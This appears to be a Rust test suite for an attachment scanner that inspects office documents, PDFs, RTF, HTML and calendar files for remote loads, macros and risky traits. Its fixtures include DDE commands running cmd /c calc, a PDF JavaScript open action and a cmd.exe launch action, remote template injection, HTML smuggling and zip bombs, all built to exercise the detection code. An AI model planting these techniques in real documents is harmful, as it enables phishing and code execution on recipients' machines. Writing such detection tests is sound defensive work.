mod odd;

use std::borrow::Cow;
use std::io::{Cursor, Write};

use proptest::prelude::*;
use zip::ZipWriter;
use zip::write::SimpleFileOptions;

use super::*;
use crate::content::Kind;

fn packed(members: &[(&str, &str)]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, text) in members {
        writer.start_file(*name, SimpleFileOptions::default()).unwrap();
        writer.write_all(text.as_bytes()).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn part(name: &str, bytes: Vec<u8>) -> Part<'static> {
    Part {
        number: 3,
        name: Some(name.to_owned()),
        attached: true,
        listed: true,
        kind: Kind::Document,
        bytes: Cow::Owned(bytes),
        ..Part::default()
    }
}

fn look(name: &str, bytes: impl Into<Vec<u8>>) -> Document {
    read(&part(name, bytes.into())).unwrap_or_default()
}

/// Kind and host of what loads, in order of both.
fn loads(document: &Document) -> Vec<(&str, &str)> {
    let mut all: Vec<_> = document.loads.iter().map(|load| (load.kind, load.host.as_str())).collect();
    all.sort_unstable();
    all.dedup();
    all
}

fn targets(document: &Document) -> Vec<&str> {
    document.anchors.iter().map(|anchor| anchor.target.as_str()).collect()
}

fn relation(kind: &str, target: &str) -> String {
    format!(
        r#"<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"/>"#
    )
}

fn relations(all: &[(&str, &str)]) -> String {
    let all: String = all.iter().map(|(kind, target)| relation(kind, target)).collect();
    format!("<?xml version=\"1.0\"?><Relationships>{all}</Relationships>")
}

fn docx() -> Vec<u8> {
    let field = |parts: &[&str]| {
        let code: String =
            parts.iter().map(|part| format!("<w:r><w:instrText>{part}</w:instrText></w:r>")).collect();
        format!(
            r#"<w:r><w:fldChar w:fldCharType="begin"/></w:r>{code}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>"#
        )
    };
    let body = [
        field(&[" INCLUDE", "PICTURE \"http:", "//field.example/p.png\" \\d"]),
        field(&[" HYPERLINK \"https://link.example/a\" "]),
        field(&[" DDEAUTO \"cmd\" \"/c calc\" "]),
        r#"<w:fldSimple w:instr=" INCLUDETEXT &quot;https://text.example/t.docx&quot; "/>"#.to_owned(),
    ]
    .concat();
    packed(&[
        ("[Content_Types].xml", "<Types/>"),
        ("word/document.xml", &format!("<w:document><w:body><w:p>{body}</w:p></w:body></w:document>")),
        (
            "word/_rels/document.xml.rels",
            &relations(&[("image", "http://image.example/i.png"), ("hyperlink", "https://shown.example/")]),
        ),
        (
            "word/_rels/settings.xml.rels",
            &relations(&[("attachedTemplate", "https://template.example/t.dotm")]),
        ),
        ("word/_rels/webSettings.xml.rels", &relations(&[("frame", "\\\\192.0.2.9\\share\\f")])),
        ("word/vbaProject.bin", "x"),
    ])
}

#[test]
fn docx_names_template_pictures_frames_and_fields() {
    let document = look("minutes.docx", docx());
    let wanted = [
        ("docx-field-picture", "field.example"),
        ("docx-field-text", "text.example"),
        ("docx-frame", "192.0.2.9"),
        ("docx-image", "image.example"),
        ("docx-template", "template.example"),
    ];
    assert_eq!(loads(&document), wanted);
    assert_eq!(document.load_count, 5);
    assert_eq!(targets(&document), ["https://link.example/a", "https://shown.example/"]);
    assert_eq!(document.anchors[0].shown, "shown");
    assert!(document.macros);
    assert!(document.traits.contains(&"dde"));
    assert!(document.loads.iter().all(|load| load.part == 3 && load.fires == Fires::AttachmentOpened));
}

#[test]
fn an_address_spelled_by_a_field_in_a_field_is_read() {
    let codes: String = "http://q.example/".bytes().map(|byte| format!(" {byte}")).collect();
    let open = r#"<w:fldChar w:fldCharType="begin"/>"#;
    let end = r#"<w:fldChar w:fldCharType="end"/>"#;
    let text = format!(
        "<w:document>{open}<w:instrText>INCLUDEPICTURE \"</w:instrText>{open}<w:instrText>QUOTE{codes}</w:instrText>\
         {end}<w:instrText>\"</w:instrText>{end}</w:document>"
    );
    let document = look("a.docx", packed(&[("[Content_Types].xml", ""), ("word/document.xml", &text)]));
    assert_eq!(loads(&document), [("docx-field-picture", "q.example")]);
}

#[test]
fn xlsx_names_formulas_connections_and_other_books() {
    let sheet = r#"<worksheet><c><f>_xlfn.WEBSERVICE("https://formula.example/?a=")</f></c>
        <c><f>HYPERLINK("https://link.example/x","read")</f></c>
        <c><f>_xlfn.IMAGE("https://image.example/1.png")</f></c><c><f>cmd|'/c calc'!A0</f></c></worksheet>"#;
    let document = look(
        "b.xlsx",
        packed(&[
            ("[Content_Types].xml", "<Types/>"),
            ("xl/worksheets/sheet1.xml", sheet),
            (
                "xl/connections.xml",
                r#"<connections><connection><webPr url="http://web.example/q"/></connection></connections>"#,
            ),
            (
                "xl/externalLinks/_rels/externalLink1.xml.rels",
                &relations(&[("externalLinkPath", "https://book.example/b.xlsx")]),
            ),
            ("customUI/customUI.xml", r#"<customUI onLoad="go"/>"#),
        ]),
    );
    let wanted = [
        ("xlsx-connection", "web.example"),
        ("xlsx-external", "book.example"),
        ("xlsx-formula", "formula.example"),
        ("xlsx-formula", "image.example"),
    ];
    assert_eq!(loads(&document), wanted);
    assert_eq!(targets(&document), ["https://link.example/x"]);
    assert!(["dde", "connection", "custom-ui"].iter().all(|one| document.traits.contains(one)));
}

const FLAT: &str = r#"<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">
    <office:meta><meta:template xlink:href="https://template.example/t.ott"/></office:meta><office:body>
    <draw:image xlink:href="http://image.example/i.png"/><draw:image xlink:href="Pictures/1.png"/>
    <text:section-source xlink:href="https://section.example/s.odt"/>
    <text:a xlink:href="https://link.example/">read <text:span>this</text:span></text:a>
    <draw:floating-frame xlink:href="https://frame.example/"/></office:body></office:document>"#;

#[test]
fn odt_packed_and_flat_name_the_same() {
    let zipped = packed(&[("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", FLAT)]);
    for (name, bytes) in [("a.odt", zipped), ("a.fodt", FLAT.as_bytes().to_vec())] {
        let document = look(name, bytes);
        let wanted = [
            ("odf-frame", "frame.example"),
            ("odf-image", "image.example"),
            ("odf-section", "section.example"),
            ("odf-template", "template.example"),
        ];
        assert_eq!(loads(&document), wanted, "{name}");
        assert_eq!(document.anchors[0].shown, "read this");
    }
}

#[test]
fn an_encrypted_odt_is_told() {
    let manifest = "<manifest:manifest><manifest:encryption-data/></manifest:manifest>";
    assert!(look("a.odt", packed(&[("META-INF/manifest.xml", manifest)])).encrypted);
}

const PDF: &str = "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS \
    (this.getURL\\(\"https://script.example/j\"\\);) >> >>\nendobj\n2 0 obj << /Kids [2 0 R 1 0 R] /Parent 2 0 R >> endobj\n\
    3 0 obj << /Type /Annot /A << /S /URI /URI (https://link.example/\\141) >> >> endobj\n\
    4 0 obj << /A << /S /#55RI /URI 5 0 R >> >> endobj\n5 0 obj <68747470733a2f2f686578> endobj\n\
    6 0 obj << /S /GoToR /F << /Type /Filespec /F (\\\\\\\\192.0.2.4\\\\s\\\\a.pdf) >> >> endobj\n\
    7 0 obj << /S /SubmitForm /F << /FS /URL /F (https://submit.example/) >> >> endobj\n\
    8 0 obj << /Length 0 /F << /FS /URL /F (http://stream.example/s) >> >> stream\n\nendstream endobj\n\
    9 0 obj << /S /Launch /F (cmd.exe) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF";

#[test]
fn pdf_names_links_actions_scripts_and_files() {
    let document = look("a.pdf", PDF);
    let wanted = [
        ("pdf-goto", "192.0.2.4"),
        ("pdf-script", "script.example"),
        ("pdf-stream", "stream.example"),
        ("pdf-submit", "submit.example"),
    ];
    assert_eq!(loads(&document), wanted);
    assert_eq!(targets(&document), ["https://link.example/a", "https://hex/"]);
    assert!(document.scripts && !document.encrypted);
    assert!(["open-action", "launch", "form"].iter().all(|one| document.traits.contains(one)));
    let submit = document.loads.iter().find(|load| load.kind == "pdf-submit").unwrap();
    assert_eq!(submit.fires, Fires::Submitted);
}

#[test]
fn pdf_objects_in_streams_are_unpacked_and_bounded() {
    let inner = b"1 0 2 45 << /S /URI /URI (https://packed.example/) >>   (x)";
    let zipped = |bytes: &[u8]| {
        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
        encoder.write_all(bytes).unwrap();
        encoder.finish().unwrap()
    };
    let file = |content: Vec<u8>| {
        let mut bytes =
            b"%PDF-1.5\n9 0 obj << /Type /ObjStm /N 2 /First 9 /Filter /FlateDecode >> stream\n".to_vec();
        bytes.extend(content);
        bytes.extend(b"\nendstream endobj");
        bytes
    };
    assert_eq!(targets(&look("a.pdf", file(zipped(inner)))), ["https://packed.example/"]);
    let bomb = look("a.pdf", file(zipped(&vec![b' '; 40 << 20])));
    assert!(bomb.traits.contains(&"bomb"));
    assert!(look("a.pdf", "%PDF-1.4\ntrailer << /Encrypt 5 0 R >>").encrypted);
}

const RTF: &str = "{\\rtf1{\\*\\template http://temp{\\x}late.example/t.dotm}\
    {\\field{\\*\\fldinst{ INCLUDEPICTURE \"http://pict\\'75re.example/p\" \\\\d }}{\\fldrslt x}}\
    {\\field{\\*\\fldinst HYPERLINK \"https://l\\u105?nk.example/\"}{\\fldrslt y}}\
    {\\shp{\\sp{\\sn pibName}{\\sv https://shape.example/s.png}}}\
    {\\object\\objautlink\\objupdate{\\*\\objdata 0105 687474703a2f2f6f626a6563742e6578616d706c652f6f00}}}";

#[test]
fn rtf_names_template_fields_shapes_and_objects() {
    let document = look("a.rtf", RTF);
    let wanted = [
        ("rtf-field-picture", "picture.example"),
        ("rtf-image", "shape.example"),
        ("rtf-object", "object.example"),
        ("rtf-template", "template.example"),
    ];
    assert_eq!(loads(&document), wanted);
    assert_eq!(targets(&document), ["https://link.example/"]);
    assert!(
        ["linked-object", "object-update", "embedded-object"].iter().all(|one| document.traits.contains(one))
    );
    // An office program opens it under this name too.
    assert_eq!(loads(&look("a.doc", RTF)), wanted);
}

#[test]
fn a_page_that_builds_a_file_is_told_and_an_honest_one_is_not() {
    let cargo = "QUJD".repeat(2000);
    let page = format!(
        "<html><script>var b=new Blob([atob('{cargo}')]);a.href=URL.createObjectURL(b);a.download='x.iso'</script>"
    );
    let document = look("a.html", page);
    assert!(document.traits.contains(&"smuggling") && document.scripts);
    let honest =
        format!("<html><img src=\"data:image/png;base64,{cargo}\"><a href=/x download>get</a></html>");
    let document = look("a.html", honest);
    assert!(!document.traits.contains(&"smuggling") && !document.scripts);
}

#[test]
fn calendar_leads_and_loads() {
    let text = "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nURL:https://event.exam\r\n ple/\r\nIMAGE;VALUE=URI;DISPLAY=BADGE:\
        https://image.example/b.png\r\nBEGIN:VALARM\r\nATTACH:https://alarm.example/a.wav\r\nEND:VALARM\r\n\
        CONFERENCE;VALUE=URI:https://call.example/1\r\nEND:VEVENT\r\nEND:VCALENDAR";
    let document = look("a.ics", text);
    assert_eq!(loads(&document), [("calendar-alarm", "alarm.example"), ("calendar-image", "image.example")]);
    assert_eq!(targets(&document), ["https://event.example/", "https://call.example/1"]);
}

fn compound(streams: &[(&str, &[u8])]) -> Vec<u8> {
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    for (name, bytes) in streams {
        if let Some((storage, _)) = name.rsplit_once('/') {
            file.create_storage_all(storage).unwrap();
        }
        file.create_stream(name).unwrap().write_all(bytes).unwrap();
    }
    file.into_inner().into_inner()
}

fn doc() -> Vec<u8> {
    let mut text = vec![0u8; 512];
    text.extend(b"\x13 INCLUDEPICTURE \"http://picture.example/p.png\" \x14x\x15");
    text.extend(
        "\u{13} HYPERLINK \"https://link.example/\" \u{14}y\u{15}".encode_utf16().flat_map(u16::to_le_bytes),
    );
    let table: Vec<u8> = "https://template.example/t.dot".encode_utf16().flat_map(u16::to_le_bytes).collect();
    compound(&[("/WordDocument", &text), ("/1Table", &table), ("/Macros/VBA/dir", b"x")])
}

#[test]
fn old_office_files_name_fields_templates_and_macros() {
    let document = look("a.doc", doc());
    assert_eq!(
        loads(&document),
        [("doc-field-picture", "picture.example"), ("doc-linked", "template.example")]
    );
    assert_eq!(targets(&document), ["https://link.example/"]);
    assert!(document.macros && !document.encrypted);
    assert!(look("a.docx", compound(&[("/EncryptedPackage", b"x")])).encrypted);
    let mut book = vec![0x09, 0x08, 2, 0, 0, 6, 0x85, 0, 8, 0, 0, 0, 0, 0, 0, 1, 0, 0];
    book.extend([0x2f, 0, 2, 0, 0, 0]);
    let book = look("a.xls", compound(&[("/Workbook", &book)]));
    assert!(book.macros && book.encrypted && book.traits.contains(&"macro-sheet"));
}

fn der(tag: u8, inner: &[u8]) -> Vec<u8> {
    let mut out = vec![tag, 0x82, (inner.len() >> 8) as u8, inner.len() as u8];
    out.extend(inner);
    out
}

#[test]
fn what_is_only_signed_is_read() {
    let inner = b"Content-Type: text/calendar; name=a.ics\r\nContent-Disposition: attachment\r\n\r\n\
        BEGIN:VCALENDAR\r\nIMAGE:https://signed.example/i\r\n";
    let data = [sealed_oid(1), der(0xa0, &der(0x04, inner))].concat();
    let whole = der(0x30, &[sealed_oid(2), der(0xa0, &der(0x30, &der(0x30, &data)))].concat());
    let mut sealed = part("smime.p7m", whole.clone());
    sealed.kind = Kind::Sealed;
    let document = read(&sealed).unwrap();
    assert_eq!(loads(&document), [("calendar-image", "signed.example")]);
    assert_eq!(document.loads[0].fires, Fires::OpenedInSome);
    assert!(!document.encrypted && document.traits.contains(&"sealed"));
    sealed.bytes = der(0x30, &sealed_oid(3)).into();
    assert!(read(&sealed).unwrap().encrypted);
}

fn sealed_oid(last: u8) -> Vec<u8> {
    vec![0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, last]
}

#[test]
fn documents_in_an_archive_are_read() {
    let mut inner = ZipWriter::new(Cursor::new(Vec::new()));
    inner.start_file("in/minutes.docx", SimpleFileOptions::default()).unwrap();
    inner.write_all(&docx()).unwrap();
    let mut archive = part("a.zip", inner.finish().unwrap().into_inner());
    archive.kind = Kind::Archive;
    assert_eq!(read(&archive).unwrap().loads.len(), 5);
}

#[test]
fn bombs_and_entities_are_bounded_and_told() {
    let big = format!("<w:document>{}</w:document>", " ".repeat(24 << 20));
    let bomb = look("a.docx", packed(&[("[Content_Types].xml", ""), ("word/document.xml", &big)]));
    assert!(bomb.traits.contains(&"bomb"));
    let laughs = "<!DOCTYPE x [<!ENTITY a \"http://a.example/\"><!ENTITY b \"&a;&a;&a;&a;\">]>\
        <w:document><w:t>&b;&b;</w:t></w:document>";
    let document = look("a.docx", packed(&[("[Content_Types].xml", ""), ("word/document.xml", laughs)]));
    assert!(document.traits.contains(&"entities") && document.loads.is_empty());
    let deep = look("a.pdf", format!("%PDF-1.4\n1 0 obj {} endobj", "[<<".repeat(300_000)));
    assert!(deep.loads.is_empty());
    let braces = look("a.rtf", format!("{{\\rtf1{}", "{\\fldinst ".repeat(100_000)));
    assert!(braces.loads.is_empty());
    let many: String = (0..3000).map(|n| format!("{{\\*\\template http://h{n}.example/}}")).collect();
    let many = look("a.rtf", format!("{{\\rtf1 {many}}}"));
    assert_eq!(many.loads.len(), 1000);
    assert!(many.traits.contains(&"bounded"));
}

#[test]
fn torn_documents_give_what_is_left() {
    let zipped = packed(&[("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", FLAT)]);
    let rows: [(&str, Vec<u8>); 7] = [
        ("a.docx", docx()),
        ("a.odt", zipped),
        ("a.fodt", FLAT.into()),
        ("a.pdf", PDF.into()),
        ("a.rtf", RTF.into()),
        ("a.doc", doc()),
        (
            "a.ics",
            b"BEGIN:VCALENDAR\r\nX-ALT-DESC;FMTTYPE=text/html:<b>\\n\r\nURL:https://a.example/".to_vec(),
        ),
    ];
    for (name, bytes) in rows {
        let whole = look(name, bytes.clone());
        let mut last = 0;
        for cut in (0..bytes.len()).step_by(1 + bytes.len() / 700) {
            let torn = look(name, &bytes[..cut]);
            assert!(torn.loads.len() <= whole.loads.len() + 1, "{name} {cut}");
            last = torn.loads.len();
        }
        // All but the end of it is there, so nearly everything is found.
        if !name.ends_with("doc") && !name.ends_with("ics") {
            assert!(last > 0, "{name}");
        }
    }
}

const NAMES: [&str; 14] = [
    "a.docx", "a.xlsx", "a.odt", "a.fodt", "a.pdf", "a.rtf", "a.html", "a.svg", "a.mht", "a.ics", "a.doc",
    "a.xls", "a.zip", "a.p7m",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn no_bytes_end_a_reader(bytes in proptest::collection::vec(any::<u8>(), 0..600), front in 0usize..6) {
        let fronts: [&[u8]; 6] = [b"", b"PK\x03\x04", b"%PDF-1.4\n1 0 obj <<", b"{\\rtf1", compound::MAGIC, b"<x a='"];
        let bytes = [fronts[front], &bytes].concat();
        for name in NAMES {
            let mut one = part(name, bytes.clone());
            look(name, bytes.clone());
            one.kind = Kind::Sealed;
            prop_assert!(read(&one).is_some());
        }
    }

    #[test]
    fn no_changed_byte_ends_a_reader(at in any::<prop::sample::Index>(), to in any::<u8>(), which in 0usize..4) {
        let (name, mut bytes) = match which {
            0 => ("a.docx", docx()),
            1 => ("a.pdf", PDF.as_bytes().to_vec()),
            2 => ("a.rtf", RTF.as_bytes().to_vec()),
            _ => ("a.doc", doc()),
        };
        let at = at.index(bytes.len());
        bytes[at] = to;
        prop_assert!(look(name, bytes).loads.len() < 20);
    }

    #[test]
    fn no_words_of_a_format_end_its_reader(words in proptest::collection::vec(prop::sample::select(vec![
        "{", "}", "\\*", "\\fldinst ", "\\u-9 ", "\\'4", "\\bin9 ", "\\objdata ", "<<", ">>", "[", "]", "(", ")", "<",
        ">", "/URI", "1 0 R", "1 0 obj", "stream\n", "endstream", "endobj", "#", "\\", "\"", "http://a.example/",
    ]), 0..80)) {
        let text = words.concat();
        look("a.rtf", text.clone());
        let found = look("a.pdf", format!("%PDF-1.4\n{text}"));
        prop_assert!(found.loads.len() <= words.len());
    }
}
